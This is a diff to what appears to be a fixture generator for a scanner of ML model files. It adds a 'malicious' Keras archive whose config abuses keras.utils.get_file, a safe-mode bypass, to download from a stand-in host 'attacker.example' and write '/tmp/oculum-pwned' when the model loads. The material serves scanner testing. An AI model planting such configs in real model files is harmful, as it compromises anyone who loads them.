@@ -551,6 +551,15 @@ def benign_everyday_models():
     torch.save(torch.nn.TransformerEncoderLayer(d_model=4, nhead=1, dim_feedforward=4, activation='gelu'), out('benign', 'torch_encoder_gelu.pt'))
 
 
+def malicious_keras_internal():
+    """Keras's own functions that reach the filesystem or the network (the get_file safe-mode bypass)."""
+    cfg = {'module': 'keras', 'class_name': 'Sequential', 'registered_name': None, 'config': {'name': 'seq', 'layers': [
+        {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None, 'config': {'name': 'dense', 'units': 2}},
+        {'module': 'keras.utils', 'class_name': 'get_file', 'registered_name': None,
+         'config': {'origin': 'https://attacker.example/x', 'fname': '/tmp/oculum-pwned'}}]}}
+    write('malicious', 'keras_get_file.keras', keras_archive(cfg))
+
+
 if __name__ == '__main__':
     if '--only' in sys.argv:
         # `--only benign_everyday_models`: write one group without rewriting the others (zip and tar
@@ -562,6 +571,7 @@ if __name__ == '__main__':
     benign()
     benign_everyday_models()
     malicious()
+    malicious_keras_internal()
     review()
     malformed()
     for kind in ('benign', 'malicious', 'review', 'malformed'):
